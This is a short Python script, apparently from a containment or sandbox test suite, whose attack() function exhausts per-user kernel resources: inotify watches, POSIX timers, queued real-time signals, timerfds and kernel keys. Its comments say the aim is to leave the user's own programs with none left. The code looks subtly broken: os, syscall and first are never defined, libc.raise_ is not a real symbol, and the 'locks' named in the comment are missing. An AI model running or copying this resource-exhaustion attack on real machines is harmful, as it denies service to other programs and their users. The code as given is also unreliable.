# Makes what a user of the machine has only so much of: watches, timers, queued signals, keys, locks.
# The count is kept for the user, so that the user's own programs would find none left.
# contained: passed
# in the open: succeeds
import ctypes
import signal


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})

    def timer():
        return syscall("timer_create", 1, 0, ctypes.byref(ctypes.c_int()))

    def queued():
        info = int(signal.SIGRTMIN).to_bytes(4, "little") + bytes(4) + b"\xff" * 4 + bytes(116)
        return syscall("rt_sigqueueinfo", os.getpid(), int(signal.SIGRTMIN), info)

    def many(make, enough):
        for _ in range(enough):
            make()
        return f"{enough} of them"

    return first(
        {
            "watches": lambda: many(lambda: syscall("inotify_init1", 0), 16),
            "timers": lambda: many(timer, 100),
            "signals": lambda: many(queued, 100),
            "clocks": lambda: many(lambda: syscall("timerfd_create", 1, 0), 16),
            "keys": lambda: syscall("add_key", b"user", b"hostile", b"x", 1, -1),
            "messages": lambda: many(lambda: libc.raise_(signal.SIGRTMIN), 100),
        }
    )
